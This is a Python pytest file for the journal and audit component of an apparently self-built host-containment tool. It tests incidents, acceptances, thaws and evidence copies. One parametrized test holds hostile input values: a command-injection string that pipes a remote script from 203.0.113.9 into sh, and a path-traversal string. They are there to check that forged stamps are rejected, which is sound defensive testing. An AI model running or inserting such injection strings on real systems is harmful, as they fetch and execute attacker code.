import datetime as dt
import os
import socket
from pathlib import Path

import build
import pytest

from picketline.core import report
from picketline.core.baseline import Acceptance
from picketline.core.decide import Decided, Disposition
from picketline.core.model import Evidence, Location
from picketline.core.report import Report
from picketline.core.store import Incident, Store
from picketline.hosts.facts import Deed, Held, Target
from picketline.hosts.journal import Journal, actor, members, targets
from picketline.hosts.parcel import MANIFEST, Receipt

STAMP = "20260314150926"
TARGET = Target(4242, 991, 77)
MINER = build.decision(Disposition.CONTAIN)


def _audit(store: Store) -> list[tuple[str, str, str]]:
    return [(row.action, row.subject, row.outcome) for row in store.audit.rows()]


def _contained(stamp: str | int, **changes: object) -> Decided:
    evidence = (Evidence("contained", stamp),)
    return build.decision(Disposition.CONTAINED, evidence=evidence, **changes)


def _report(*found: Decided) -> Report:
    return report.make([build.part(*found)], build.RULES, schema="s/1", version="1")


def test_who_acts_is_named() -> None:
    """A user and a machine, also for a user id that no account has."""
    user, at, machine = actor().partition("@")
    assert user
    assert at
    assert machine == socket.gethostname()


def test_an_unknown_user_is_a_number(monkeypatch: pytest.MonkeyPatch) -> None:
    """A container without accounts can still be swept from."""
    for name in ("LOGNAME", "USER", "LNAME", "USERNAME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(os, "getuid", lambda: 3_999_999_999)
    assert actor() == f"uid 3999999999@{socket.gethostname()}"


def test_every_order_and_refusal_is_in_the_audit(store: Store) -> None:
    """Before anything is done what is about to be, and why what is not."""
    journal = Journal(store)
    journal.intend("web-1", (TARGET, Target(1, 2, 3)), STAMP)
    journal.refuse("web-1", MINER, "more than 3")
    assert _audit(store) == [
        ("contain", "web-1", "ordered"),
        ("contain", "web-1", "ordered"),
        ("contain", "web-1", "refused: more than 3"),
    ]
    assert [row.detail["pid"] for row in store.audit.rows()] == [4242, 1, 4242]
    assert {row.actor for row in store.audit.rows()} == {actor()}
    assert not store.incidents()


def test_what_is_frozen_is_an_incident(store: Store) -> None:
    """With all that undoing it takes; evidence that was not kept is in the audit."""
    Journal(store).done("web-1", MINER, Deed(TARGET, "frozen", STAMP, ("io", "maps")))
    (incident,) = store.incidents("web-1")
    assert (incident.id, incident.state, incident.rule) == (STAMP, "contained", MINER.rule)
    assert incident.fingerprint == MINER.fingerprint
    assert incident.record == {"targets": "4242:991:77", "subject": "web-1: /tmp/m"}
    assert targets(incident) == (TARGET,)
    assert _audit(store) == [("contain", "web-1", f"frozen: {STAMP}")]
    assert store.audit.rows()[0].detail["not_kept"] == "io maps"


@pytest.mark.parametrize("outcome", ["refused", "failed"])
def test_what_is_not_frozen_is_no_incident(store: Store, outcome: str) -> None:
    """It is in the audit alone."""
    Journal(store).done("web-1", MINER, Deed(TARGET, outcome, "gone"))
    assert not store.incidents()
    assert _audit(store) == [("contain", "web-1", f"{outcome}: gone")]


def test_a_second_process_joins_its_incident(store: Store) -> None:
    """Two processes of one finding are undone together, and each is listed once."""
    journal = Journal(store)
    other = Target(4243, 992, 77)
    for target, outcome in ((TARGET, "frozen"), (other, "frozen"), (TARGET, "already")):
        journal.done("web-1", MINER, Deed(target, outcome, STAMP))
    (incident,) = store.incidents("web-1")
    assert targets(incident) == (TARGET, other)


def test_what_was_held_with_it_is_kept(store: Store) -> None:
    """A container, the rest of a tree and remarks: in the audit, and to be undone with it."""
    journal = Journal(store)
    held = Held("podman", "a" * 64, "web", "paused", "always", "kept")
    one, two = Target(5, 6, 7), Target(8, 9, 10)
    first = Deed(TARGET, "frozen", STAMP, held=held, members=(one,), notes=("service",))
    journal.done("web-1", MINER, first)
    journal.done("web-1", MINER, Deed(Target(4243, 992, 77), "frozen", STAMP, members=(two,)))
    (incident,) = store.incidents("web-1")
    assert members(incident) == (one, two)
    assert incident.record["notes"] == "service"
    kept = str(incident.record["container"])
    assert kept.startswith(f"{'a' * 64} podman container {'a' * 12} (web) paused")
    assert [row.detail.get("with") for row in store.audit.rows()] == ["5:6:7", "8:9:10"]
    assert store.audit.rows()[0].detail["container"] == kept


def test_what_was_stopped_is_an_incident(store: Store) -> None:
    """A container that was ended can be started again by a thaw."""
    Journal(store).done("web-1", MINER, Deed(TARGET, "stopped", STAMP))
    assert [each.state for each in store.incidents()] == ["contained"]


def test_another_finding_is_another_incident(store: Store) -> None:
    """Of the same sweep; so is the same finding on another host."""
    journal = Journal(store)
    journal.done("web-1", MINER, Deed(TARGET, "frozen", STAMP))
    other = build.decision(Disposition.CONTAIN, rule="HOST-PROC-001")
    journal.done("web-1", other, Deed(TARGET, "frozen", STAMP))
    journal.done("web-2", MINER, Deed(TARGET, "frozen", STAMP))
    assert len(store.incidents("web-1")) == 2
    assert len(store.incidents()) == 3


def test_a_report_is_kept(store: Store) -> None:
    """What a sweep reports is what `picket accept` looks in."""
    Journal(store).finish(_report(MINER))
    assert len(list(store.reports())) == 1
    assert store.find_fingerprints(MINER.fingerprint[:8]) == (MINER.fingerprint,)


def test_what_another_controller_froze_is_adopted_once(store: Store) -> None:
    """However often it is seen, and not again once it was thawed here."""
    journal = Journal(store)
    for _ in range(2):
        journal.adopt(_report(_contained(STAMP)))
    (incident,) = store.incidents("web-1")
    assert (incident.id, targets(incident)) == (STAMP, (TARGET,))
    store.close_incident(incident, "thawed")
    journal.adopt(_report(_contained(STAMP)))
    assert [each.state for each in store.incidents()] == ["thawed"]


@pytest.mark.parametrize(
    "finding",
    [
        MINER,
        build.decision(Disposition.ALERT, evidence=(Evidence("contained", STAMP),)),
        build.decision(Disposition.CONTAINED),
        _contained(STAMP, location=Location(pid=4242)),
        _contained(STAMP, location=Location(start=991, inode=77)),
    ],
)
def test_what_is_not_frozen_is_not_adopted(store: Store, finding: Decided) -> None:
    """Only a contained process whose place is known can be undone."""
    Journal(store).adopt(_report(finding))
    assert not store.incidents()


@pytest.mark.parametrize(
    "stamp",
    ["", "yes", "2026", f"{STAMP}0", "x; curl http://203.0.113.9/i.sh | sh #", "../../etc", 7],
)
def test_a_stamp_that_a_host_made_up_is_no_incident(store: Store, stamp: str | int) -> None:
    """A hostile host names none: `picket incidents` prints the name in a line to be pasted."""
    Journal(store).adopt(_report(_contained(stamp)))
    assert not store.incidents()


def test_an_acceptance_is_kept_and_audited(store: Store) -> None:
    """Who took what on, why and until when."""
    today = dt.date(2026, 3, 14)
    taken = Acceptance(MINER.fingerprint, "ticket 311", today, dt.date(2026, 4, 1))
    Journal(store).accept(taken)
    assert store.baseline() == {MINER.fingerprint: taken}
    (row,) = store.audit.rows()
    assert (row.action, row.subject, row.outcome) == ("accept", MINER.fingerprint, "accepted")
    assert row.detail == {"reason": "ticket 311", "until": "2026-04-01"}
    Journal(store).accept(Acceptance(MINER.fingerprint, "for good", today))
    assert store.audit.rows()[1].detail["until"] == "no end"


def test_a_withdrawal_is_kept_and_audited(store: Store) -> None:
    """Who took it back and why; what was not accepted leaves no row."""
    journal = Journal(store)
    journal.accept(Acceptance(MINER.fingerprint, "ticket 311", dt.date(2026, 3, 14)))
    for _ in range(2):
        journal.withdraw(MINER.fingerprint, "not ours after all")
    assert not store.baseline()
    _, row = store.audit.rows()
    assert (row.action, row.subject, row.outcome) == ("withdraw", MINER.fingerprint, "withdrawn")
    assert (row.detail, row.actor) == ({"reason": "not ours after all"}, actor())


def test_a_thaw_is_audited(store: Store) -> None:
    """Also one that did not come off."""
    incident = Incident(STAMP, "web-1", "f" * 64, MINER.rule, 1.0, "contained", {})
    Journal(store).thawed("web-1", incident, Deed(TARGET, "refused", "not-root"))
    (row,) = store.audit.rows()
    assert (row.action, row.subject, row.outcome) == ("thaw", "web-1", "refused: not-root")
    assert row.detail == {"incident": STAMP, "pid": 4242, "fingerprint": "f" * 64}


def test_an_incident_without_processes() -> None:
    """A record that names none has none."""
    assert targets(Incident(STAMP, "a", "f", "r", 1.0, "contained", {})) == ()


def test_where_evidence_was_copied(store: Store) -> None:
    """In the audit with its hashes, and in the incident, also once a process joins that."""
    journal = Journal(store)
    journal.done("web-1", MINER, Deed(TARGET, "frozen", STAMP))
    assert journal.uncopied("web-1") == (STAMP,)
    receipt = Receipt(3, 900, {MANIFEST: "a" * 64, "frozen": "b" * 64})
    journal.copied("web-1", STAMP, Path("/srv/evidence"), receipt)
    journal.done("web-1", MINER, Deed(Target(4243, 992, 77), "frozen", STAMP))
    (incident,) = store.incidents("web-1")
    assert incident.record["copy"] == "/srv/evidence"
    assert incident.record["copy_sha256"] == "a" * 64
    assert journal.uncopied("web-1") == ()
    row = store.audit.rows()[1]
    assert (row.action, row.outcome) == ("copy", "copied: 3 files, 900 bytes")
    assert row.detail["sha256 frozen"] == "b" * 64


def test_what_is_not_copied_any_more(store: Store) -> None:
    """What was thawed, and what failed three times."""
    journal = Journal(store)
    other = "20260314150927"
    for stamp in (STAMP, other):
        journal.done("web-1", MINER, Deed(TARGET, "frozen", stamp))
    store.close_incident(store.incident("web-1", other) or store.incidents()[0], "thawed")
    for _ in range(3):
        assert journal.uncopied("web-1") == (STAMP,)
        journal.copied("web-1", STAMP, Path("/srv/evidence"), "no route")
    assert journal.uncopied("web-1") == ()
    assert _audit(store)[-1] == ("copy", "web-1", "failed: no route")
